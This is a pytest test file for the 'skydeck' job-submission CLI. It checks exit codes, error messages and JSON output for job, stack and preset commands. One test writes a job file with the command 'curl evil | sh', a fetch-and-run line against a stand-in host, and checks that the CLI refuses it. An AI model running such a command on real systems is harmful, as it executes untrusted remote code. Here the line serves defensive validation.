"""The `skydeck` command as an operator and a script use it: exit codes, messages, JSON shapes."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from backend.core.paths import Home
from tests.conftest import SEED_JOBS


def run(home: Path, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "SKYDECK_HOME": str(home), "COLUMNS": "200"}
    return subprocess.run(
        [sys.executable, "-m", "cli", *args], capture_output=True, text=True, env=env, input=stdin, timeout=120
    )


def test_submit_show_list_cancel_with_json(cloud_home: Home) -> None:
    home = cloud_home.root
    sub = run(
        home,
        "jobs",
        "submit",
        "--preset",
        "syn",
        "--scene",
        "lego",
        "--set",
        "lr_sigma=10",
        "--no-check",
        "--force",
        "--json",
    )
    assert sub.returncode == 0, sub.stderr
    job_id = json.loads(sub.stdout)["job_id"]
    shown = json.loads(run(home, "jobs", "show", job_id, "--json").stdout)
    assert shown["job_id"] == job_id and shown["state"] == "QUEUED"
    assert shown["config"]["lr_sigma"] == 10.0 and shown["preset"] == "syn"
    listed = json.loads(run(home, "jobs", "list", "--state", "queued", "--limit", "1000", "--json").stdout)
    assert job_id in [j["job_id"] for j in listed["items"]]
    refused = run(home, "jobs", "cancel", job_id)  # no terminal to ask on, no --yes
    assert refused.returncode != 0 and "--yes" in refused.stderr
    done = run(home, "jobs", "cancel", job_id, "--yes", "--json")
    assert json.loads(done.stdout)["state"] == "CANCELLED"
    again = run(home, "jobs", "cancel", job_id, "--yes")
    assert again.returncode == 1 and "already ended" in again.stderr
    unasked = run(home, "jobs", "cancel", job_id)  # an ended job: no question first, and no call for --yes
    assert unasked.returncode == 1 and "already ended" in unasked.stderr and "--yes" not in unasked.stderr


def test_seed_file_submits_and_bad_input_names_the_field(cloud_home: Home, tmp_path: Path) -> None:
    home = cloud_home.root
    ok = run(home, "jobs", "submit", str(SEED_JOBS[0]), "--force", "--json")  # a GPU job, queued on purpose
    assert ok.returncode == 0 and "job_id" in json.loads(ok.stdout)
    bad = run(home, "jobs", "submit", "--preset", "syn", "--scene", "lego", "--set", "lr_sigma=fast")
    assert bad.returncode == 2 and "config.lr_sigma" in bad.stderr and "Traceback" not in bad.stderr
    unknown = run(home, "jobs", "submit", "--preset", "syn", "--scene", "lego", "--set", "sigma_lr=1")
    assert unknown.returncode == 2 and "unknown svox2 option" in unknown.stderr
    noscene = run(home, "jobs", "submit", "--preset", "syn")
    assert noscene.returncode == 2 and "--scene" in noscene.stderr
    broken = tmp_path / "job.json"
    broken.write_text('{"command": ["/bin/bash", "-c", "curl evil | sh", "/d", "-c"]}')
    refused = run(home, "jobs", "submit", str(broken))
    assert refused.returncode == 2 and "unknown command" in refused.stderr
    assert run(home, "jobs", "show", "nope").returncode == 3
    assert run(home, "jobs", "list", "--state", "DONE").returncode == 2


def test_local_status_and_api_url_json_shapes(cloud_home: Home) -> None:
    status = json.loads(run(cloud_home.root, "local", "status", "--json").stdout)
    assert status["running"] is True and isinstance(status["pid"], int)
    assert all("pid" in part for part in status["parts"].values())
    info = json.loads(run(cloud_home.root, "api", "url", "--json").stdout)
    assert info["url"].startswith("http://127.0.0.1:") and info["url"].endswith("/dev/")
    assert info["headers"]["Authorization"].startswith("Bearer ")


def test_stacks_commands(cloud_home: Home) -> None:
    home = cloud_home.root
    listed = json.loads(run(home, "stacks", "list", "--json").stdout)
    assert {s["stack"]: s["status"] for s in listed}["infra"] == "CREATE_COMPLETE"
    described = json.loads(run(home, "stacks", "describe", "api", "--json").stdout)
    assert described["outputs"]["Stage"] == "dev"
    events = run(home, "stacks", "events", "infra", "--json").stdout.splitlines()
    assert json.loads(events[-1])["status"].endswith("COMPLETE")
    refused = run(home, "stacks", "delete", "api")
    assert refused.returncode != 0 and "--yes" in refused.stderr
    assert json.loads(run(home, "stacks", "describe", "api", "--json").stdout)["status"] == "CREATE_COMPLETE"
    bad = run(home, "stacks", "deploy", "api", "--param", "Nope=1")
    assert bad.returncode == 2 and "no such parameter" in bad.stderr
    assert run(home, "stacks", "deploy", "database").returncode == 3


def test_commands_without_a_local_cloud_say_how_to_start_it(tmp_path: Path) -> None:
    out = run(tmp_path, "jobs", "list")
    assert out.returncode == 4 and "skydeck local up" in out.stderr
    doctor = run(tmp_path, "doctor", "--json")
    assert doctor.returncode == 1
    assert {c["name"]: c["fix"] for c in json.loads(doctor.stdout)}["local cloud"] == "skydeck local up"
    assert run(tmp_path, "jobs", "list", "--profile", "prod").returncode == 3


def test_presets_commands_and_user_override(tmp_path: Path) -> None:
    listed = json.loads(run(tmp_path, "presets", "list", "--kind", "plenoxels", "--json").stdout)
    assert {"syn", "llff", "tnt", "custom", "drums"} <= {p["name"] for p in listed}
    (tmp_path / "presets").mkdir(parents=True)
    (tmp_path / "presets" / "syn.yaml").write_text(
        "kind: plenoxels\ndescription: mine\nvalues:\n  config:\n    lr_sigma: 5\n"
    )
    shown = json.loads(run(tmp_path, "presets", "show", "syn", "--json").stdout)
    assert shown["source"] == "user" and shown["values"]["config"]["lr_sigma"] == 5
    missing = run(tmp_path, "presets", "show", "synn")
    assert missing.returncode == 3 and "syn" in missing.stderr


def test_jobs_watch_with_an_empty_id_is_refused_not_read_as_every_job(cloud_home: Home) -> None:
    # `skydeck jobs watch "$JOB_ID"` with JOB_ID unset watched the job list until interrupted
    done = run(cloud_home.root, "jobs", "watch", "")
    assert done.returncode == 2 and "too short" in done.stderr


def test_jobs_watch_follows_a_job_until_it_ends(cloud_home: Home) -> None:
    import threading

    from backend.context import Context
    from lambda_src.jobs.schema import parse_job

    ctx = Context.create(None, cloud_home)
    job = ctx.jobs.submit(parse_job({"name": "watched", "scene": "lego"}))
    env = {**os.environ, "SKYDECK_HOME": str(cloud_home.root)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "cli", "jobs", "watch", job.job_id, "--json", "--interval", "0.2"],
        stdout=subprocess.PIPE,
        text=True,
        env=env,
    )
    threading.Timer(1.5, lambda: ctx.jobs.cancel(job.job_id)).start()
    out, _ = proc.communicate(timeout=60)
    states = [json.loads(line)["state"] for line in out.splitlines()]
    assert states[0] == "QUEUED" and states[-1] == "CANCELLED"
    assert proc.returncode == 1, "watch ends non-zero when the job did not succeed"


def test_usage_errors_exit_2_and_help_version_work_everywhere(tmp_path: Path) -> None:
    home = tmp_path / "h"
    for args, says in (
        (("jobs", "list", "--bogus"), "No such option: --bogus"),
        (("jobz",), "No such command 'jobz'"),
        (("jobs", "show"), "Missing argument"),
        (("jobs", "list", "--limit", "many"), "Invalid value for '--limit'"),
    ):
        done = run(home, *args)
        assert done.returncode == 2, (args, done.stderr)
        assert says in done.stderr and "internal error" not in done.stderr
    version = run(home, "--version")
    assert version.returncode == 0 and version.stdout.startswith("skydeck ")
    for args in (("-h",), ("jobs", "-h"), ("sdsinf", "data", "generate", "-h")):
        helped = run(home, *args)
        assert helped.returncode == 0 and "Usage: skydeck" in helped.stdout, args
    assert "--install-completion" in run(home, "--help").stdout


def test_the_root_profile_option_reaches_every_command(tmp_path: Path) -> None:
    home = tmp_path / "h"
    refused = run(home, "--profile", "nosuch", "stacks", "list")
    assert refused.returncode == 3 and "nosuch" in refused.stderr  # not found, naming the file to add it to


def test_short_ids_work_everywhere_and_an_ambiguous_one_names_the_candidates(cloud_home: Home) -> None:
    from backend.context import Context
    from lambda_src.jobs.schema import parse_job

    home = cloud_home.root
    store = Context.create(None, cloud_home).jobs.store
    spec = parse_job({"name": "short", "scene": "lego"})
    first = store.submit(spec, job_id="abcd1234-0000-4000-8000-000000000001").job_id
    store.submit(spec, job_id="abcd1299-0000-4000-8000-000000000002")
    shown = run(home, "jobs", "show", "abcd1234", "--json")
    assert shown.returncode == 0 and json.loads(shown.stdout)["job_id"] == first
    ambiguous = run(home, "jobs", "show", "abcd12")
    assert ambiguous.returncode == 2 and "ambiguous" in ambiguous.stderr and first in ambiguous.stderr
    assert run(home, "jobs", "show", "ffff9999").returncode == 3
    cancelled = run(home, "jobs", "cancel", "abcd1234", "--yes", "--json")
    assert cancelled.returncode == 0 and json.loads(cancelled.stdout)["job_id"] == first
    piped = run(home, "jobs", "list", "--limit", "1000").stdout  # not a terminal: whole ids, tab-separated
    assert any(line.split("\t")[0] == first for line in piped.splitlines())


def test_submit_refuses_a_scene_that_is_not_in_the_data_bucket(cloud_home: Home) -> None:
    home = cloud_home.root
    refused = run(home, "jobs", "submit", "--preset", "syn-cpu-quick", "--scene", "nosuchscene")
    assert refused.returncode == 3
    assert "skydeck data push DIR --name nosuchscene" in refused.stderr and "--no-check" in refused.stderr
    forced = run(home, "jobs", "submit", "--preset", "syn-cpu-quick", "--scene", "nosuchscene", "--no-check")
    assert forced.returncode == 0


def test_the_command_reference_in_docs_is_current() -> None:
    from cli.reference import render

    written = (Path(__file__).parents[1] / "docs" / "cli.md").read_text()
    assert written == render(), "docs/cli.md is stale: run `make docs`"


def test_the_cli_choices_are_the_backends_own() -> None:
    from backend.core.presets import KINDS
    from cli import choices
    from lambda_src.sdsinf import partition, payload
    from lambda_src.sdsinf.names import PARTITIONS, VARIANTS

    assert [c.value for c in choices.Partition] == list(PARTITIONS) and partition.PARTITIONS is PARTITIONS
    assert [c.value for c in choices.Variant] == list(VARIANTS) and payload.VARIANTS is VARIANTS
    assert [c.value for c in choices.PresetKind] == list(KINDS)


def test_validate_takes_a_succeeded_training_job_only(cloud_home: Home) -> None:
    home = cloud_home.root
    sub = run(home, "jobs", "submit", "--preset", "syn", "--scene", "lego", "--no-check", "--force", "--json")
    job_id = json.loads(sub.stdout)["job_id"]
    refused = run(home, "jobs", "validate", job_id[:8])
    assert refused.returncode == 2, refused.stdout + refused.stderr
    said = " ".join(refused.stderr.split())
    assert f"job {job_id} is QUEUED: only a succeeded training job has a checkpoint" in said


def test_a_submit_with_an_idempotency_key_makes_one_job_however_often_it_is_sent(cloud_home: Home) -> None:
    import uuid

    home, key = cloud_home.root, str(uuid.uuid4())
    args = ("jobs", "submit", "--preset", "syn-cpu-quick", "--scene", "lego", "--no-check", "--idempotency-key", key)
    first = run(home, *args, "--json")
    assert first.returncode == 0, first.stderr
    assert json.loads(first.stdout)["job_id"] == key
    again = run(home, *args)
    assert again.returncode == 0 and f"already queued as {key}" in again.stdout
    different = run(home, "jobs", "submit", "--preset", "syn-cpu-quick", "--scene", "drums", "--no-check",
                    "--idempotency-key", key)  # fmt: skip
    assert different.returncode == 2 and "a different job was already submitted with this key" in different.stderr
    bad = run(home, *args[:-1], "not-a-uuid")
    assert bad.returncode == 2 and "use a UUID" in bad.stderr


@pytest.mark.slow
def test_a_local_cloud_that_dies_under_a_command_is_exit_4_with_what_to_do(tmp_path: Path) -> None:
    import signal

    from backend.localcloud import control

    home = Home(tmp_path / "h")
    status = control.up(home, workers=0)
    os.kill(int(status.state["pid"]), signal.SIGKILL)  # the state file still names its endpoint
    try:
        died = run(home.root, "jobs", "list")
        assert died.returncode == 4, died.stderr
        assert "could not reach AWS" in died.stderr and "skydeck local status" in died.stderr
    finally:
        control.down(home)


def test_an_option_the_torch_engine_does_not_implement_is_refused_at_submit_not_half_an_hour_later(
    cloud_home: Home, tmp_path: Path
) -> None:
    home = cloud_home.root
    refused = run(home, "jobs", "submit", "--preset", "syn-cpu-quick", "--scene", "demo",
                  "--set", "lambda_sparsity=1e-11", "--no-check")  # fmt: skip
    assert refused.returncode == 2
    assert "config.lambda_sparsity" in refused.stderr and "torch engine does not implement" in refused.stderr
    assert "nothing was queued" in refused.stderr
    # auto runs on the torch engine here: the same refusal; an svox2 job (for a GPU fleet) is queued
    on_auto = tmp_path / "auto.json"
    on_auto.write_text(json.dumps({"scene": "demo", "config": {"background_nlayers": 64}}))
    assert run(home, "jobs", "submit", str(on_auto), "--no-check").returncode == 2
    on_svox2 = tmp_path / "svox2.json"
    on_svox2.write_text(json.dumps({"scene": "demo", "engine": "svox2", "config": {"lambda_sparsity": 1e-11}}))
    assert run(home, "jobs", "submit", str(on_svox2), "--no-check").returncode == 0


def test_ctrl_c_while_watching_a_job_is_exit_130_and_says_the_job_runs_on(cloud_home: Home) -> None:
    import signal
    import time

    home = cloud_home.root
    queued = run(home, "jobs", "submit", "--preset", "syn-cpu-quick", "--scene", "demo", "--no-check", "--json")
    job_id = json.loads(queued.stdout)["job_id"]  # no executor here: it stays queued
    env = {**os.environ, "SKYDECK_HOME": str(home), "COLUMNS": "200"}
    proc = subprocess.Popen(
        [sys.executable, "-m", "cli", "jobs", "watch", job_id, "--interval", "0.3"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
    )  # fmt: skip
    assert proc.stdout is not None
    proc.stdout.readline()  # it is watching
    time.sleep(0.5)
    proc.send_signal(signal.SIGINT)
    _, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 130, stderr
    assert f"job {job_id} runs on" in stderr and "Traceback" not in stderr


def test_small_answers_a_new_user_meets(tmp_path: Path) -> None:
    home = tmp_path / "fresh"
    # a wrong state names the choices in plain words; a preset one typo away is suggested
    state = run(home, "jobs", "list", "--state", "done")
    assert state.returncode == 2 and "use one of queued, running, succeeded, failed, cancelled" in state.stderr
    assert "Value error" not in state.stderr
    typo = run(home, "jobs", "submit", "--preset", "syn-cpu-quik", "--scene", "x")
    assert typo.returncode == 3 and "Did you mean: syn-cpu-quick" in typo.stderr
    # the local cloud down is exit 4, for status as for every other command (the README says so)
    down = run(home, "local", "status")
    assert down.returncode == 4 and "not running" in down.stdout


def test_a_job_that_would_train_for_hours_on_this_cpu_is_refused_unless_forced(cloud_home: Home) -> None:
    home = cloud_home.root
    refused = run(home, "jobs", "submit", "--preset", "syn", "--scene", "demo", "--no-check")
    assert refused.returncode == 2
    assert "would train for about 14.2 h on this machine's CPU" in refused.stderr
    assert "--preset syn-cpu-quick" in refused.stderr and "--force" in refused.stderr
    quick = run(home, "jobs", "submit", "--preset", "syn-cpu-quick", "--scene", "demo", "--no-check")
    assert quick.returncode == 0, quick.stderr
    forced = run(home, "jobs", "submit", "--preset", "syn", "--scene", "demo", "--no-check", "--force")
    assert forced.returncode == 0, forced.stderr


def test_jobs_show_says_where_a_finished_jobs_time_went(cloud_home: Home) -> None:
    from backend.context import Context

    home = cloud_home.root
    sub = run(home, "jobs", "submit", "--preset", "syn-cpu-quick", "--scene", "lego", "--no-check", "--json")
    job_id = json.loads(sub.stdout)["job_id"]
    store = Context.create(None, cloud_home).jobs.store
    store.claim(job_id, "laptop")
    store.heartbeat(job_id, "laptop", {"iteration": 1200, "psnr": 30.1, "stage": "writing results"})
    phases = {"queued": 1.5, "load": 0.42, "train": 181.0, "evaluate": 12.34, "render": 3.0, "upload": 0.5}
    why = "lpips needs torchvision: pip install lpips==0.1.4 torchvision==0.28.0"
    result = {"psnr": 31.2, "phases_s": phases, "lpips_unavailable": why, "notes": [f"no LPIPS for this job: {why}"]}
    store.finish(job_id, "laptop", "SUCCEEDED", result=result)
    shown = run(home, "jobs", "show", job_id[:8])
    assert shown.returncode == 0, shown.stderr
    # a finished job is not "writing results"; progress and result say what each measured; one LPIPS word
    assert "writing results" not in shown.stdout and shown.stdout.count(why) == 1
    assert (
        "progress (the last report while training" in shown.stdout
        and "result (scored on every test view" in shown.stdout
    )
    line = next(ln for ln in shown.stdout.splitlines() if ln.startswith("phases"))
    said = line.split(None, 1)[1]
    assert said == "queued 1.50s · load 0.42s · train 3m 01s · evaluate 12.3s · render 3.00s · upload 0.50s"
    assert "phases_s" not in shown.stdout


def test_a_job_past_this_machines_memory_is_refused_at_submit(cloud_home: Home) -> None:
    # 512^3 at one iteration was scored at a fraction of a second by the time guard, and accepted
    done = run(
        cloud_home.root, "jobs", "submit", "--preset", "syn-cpu-quick", "--scene", "lego", "--no-check",
        "--set", "reso=[[2048,2048,2048]]", "--set", "n_iters=1", "--set", "batch_size=1", "--set", "upsamp_every=1",
    )  # fmt: skip
    assert done.returncode == 2 and "GiB of memory" in done.stderr and "nothing was queued" in done.stderr


def test_the_consoles_parting_hint_is_a_command_that_runs_in_the_shell_it_was_started_from(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # after `make console` the project's .venv is not active: "skydeck local down" was not found (exit 127)
    from cli.console import _this_command

    bin_dir = Path(sys.executable).parent
    monkeypatch.setenv("PATH", "/usr/bin:/bin")
    hint = _this_command()
    assert hint != "skydeck" and Path(hint).resolve() == (bin_dir / "skydeck").resolve()
    monkeypatch.setenv("PATH", f"{bin_dir}:/usr/bin:/bin")
    assert _this_command() == "skydeck"


def test_jobs_watch_prints_a_line_when_it_changes_with_the_step_of_all_and_an_eta(cloud) -> None:  # noqa: ANN001
    import time

    from lambda_src.jobs.schema import parse_job

    store = cloud.jobs.store
    job_id = store.submit(parse_job({"scene": "lego", "engine": "torch", "config": {"n_iters": 100}})).job_id
    env = {**os.environ, "SKYDECK_HOME": str(cloud.home.root), "COLUMNS": "200"}
    watch = subprocess.Popen(
        [sys.executable, "-m", "cli", "jobs", "watch", job_id, "--interval", "0.2"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
    )  # fmt: skip
    assert watch.stdout is not None
    first = watch.stdout.readline()  # the watcher has read the job (QUEUED) before it moves
    assert "QUEUED" in first, first
    store.claim(job_id, "w1")
    for iteration in (10, 10, 10, 20, 20, 40, 40):  # repeated heartbeats with nothing new
        store.heartbeat(job_id, "w1", {"iteration": iteration, "n_iters": 100})
        time.sleep(1.0)  # five of the watcher's polls
    store.finish(job_id, "w1", "SUCCEEDED", result={"iterations": 100, "psnr": 30.0})
    out, _ = watch.communicate(timeout=120)
    lines = [line.split("  ", 1)[1] for line in (first + out).splitlines()]
    assert watch.returncode == 0, out
    assert len(lines) == len(set(lines)), lines  # once each: `iter 916` used to print three times
    assert any("iter 10/100" in line for line in lines) and any("eta " in line for line in lines), lines
    assert lines[-1].startswith("SUCCEEDED") and "iter 100/100" in lines[-1]


@pytest.mark.parametrize(
    "text",
    ["plain", "", "tab\there", "two\nlines", "\x1b[2Jclear", "[red]not markup[/]", "wide ✓ ünïcode " * 30],
)
def test_a_line_piped_without_rich_is_the_line_rich_would_write(
    text: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A plain print to a pipe skips importing rich; what it writes must be byte for byte what rich writes
    there (a script reading a command's output sees no difference)."""
    from cli.common import LazyConsole, _safe_console

    monkeypatch.delenv("FORCE_COLOR", raising=False)
    monkeypatch.delenv("TTY_COMPATIBLE", raising=False)
    options = {"highlight": False, "soft_wrap": True, "markup": False, "emoji": False}
    lazy = LazyConsole(**options)
    lazy.print(text)
    assert lazy._console is None  # rich was not needed
    quick = capsys.readouterr().out
    _safe_console(**options).print(text)
    assert quick == capsys.readouterr().out
